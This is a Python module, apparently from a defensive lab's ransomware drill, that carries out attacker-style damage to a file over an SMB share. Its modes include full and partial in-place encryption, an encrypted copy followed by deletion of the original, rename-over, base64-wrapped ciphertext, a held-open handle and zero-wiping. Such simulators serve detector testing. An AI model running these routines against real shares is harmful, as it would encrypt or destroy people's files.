"""What an attacker on another machine does to one file over SMB: the drill's modes, as requests to a server.

Comes in: a share, a path, `confirm` (called when the server has confirmed the first destructive request). Goes out: the
damage; OSError where the server refuses. The table `HITS` names the modes; what a mode leaves beside a document is its
caller's ending.
"""

from __future__ import annotations

import base64
import os
from collections.abc import Callable

from garde.lab.attackers import inplace
from garde.lab.attackers.cipher import Spans, cipher
from garde.lab.attackers.smb_client import SmbFile, SmbShare

Confirm = Callable[[], None]
Hit = Callable[[SmbShare, str, str, Confirm], None]  # share, path, the family's ending, confirm
OPEN: list[SmbFile] = []  # the keep-open mode's handles: they stay open until the process ends


def spans(rule: Callable[[int], Spans]) -> Hit:
    """Return the hit that overwrites what the rule names, in place."""

    def hit(share: SmbShare, path: str, ending: str, confirm: Confirm) -> None:
        with share.open(path, "r+") as file:
            _overwrite(file, rule(file.seek(0, os.SEEK_END)), confirm)

    return hit


def _overwrite(file: SmbFile, places: Spans, confirm: Confirm) -> None:
    for offset, count in places:
        file.seek(offset)
        data = file.read(count)
        file.seek(offset)
        file.write(cipher(data))
        confirm()


def every_16(share: SmbShare, path: str, ending: str, confirm: Confirm) -> None:
    """Every other 16 bytes."""
    data = bytearray(share.read(path))
    for offset in range(0, len(data), 32):
        data[offset : offset + 16] = cipher(bytes(data[offset : offset + 16]))
    share.write(path, bytes(data), "r+")
    confirm()


def keep_open(share: SmbShare, path: str, ending: str, confirm: Confirm) -> None:
    """All of it, and the handle stays open."""
    file = share.open(path, "r+")
    OPEN.append(file)
    _overwrite(file, inplace.full(file.seek(0, os.SEEK_END)), confirm)


def new_then_delete(share: SmbShare, path: str, ending: str, confirm: Confirm) -> None:
    """A new file beside it, then the original deleted."""
    share.write(path + ending, cipher(share.read(path)))
    share.unlink(path)
    confirm()


def rename_over(share: SmbShare, path: str, ending: str, confirm: Confirm) -> None:
    """A temporary file renamed over the original."""
    share.write(path + ".tmp~", cipher(share.read(path)))
    share.rename(path + ".tmp~", path)
    confirm()


def as_base64(share: SmbShare, path: str, ending: str, confirm: Confirm) -> None:
    """Encrypted, encoded, rewritten."""
    share.write(path, base64.encodebytes(cipher(share.read(path))))
    confirm()


def wipe(share: SmbShare, path: str, ending: str, confirm: Confirm) -> None:
    """Zeros."""
    share.write(path, bytes(len(share.read(path))), "r+")
    confirm()


HITS: dict[str, Hit] = {
    "full": spans(inplace.full),
    "head": spans(inplace.head),
    "header-kept": spans(inplace.header_kept),
    "every-16": every_16,
    "on-off": spans(inplace.on_off),
    "percent": spans(inplace.percent),
    "new-then-delete": new_then_delete,
    "rename-over": rename_over,
    "base64": as_base64,
    "keep-open": keep_open,
    "wipe": wipe,
}
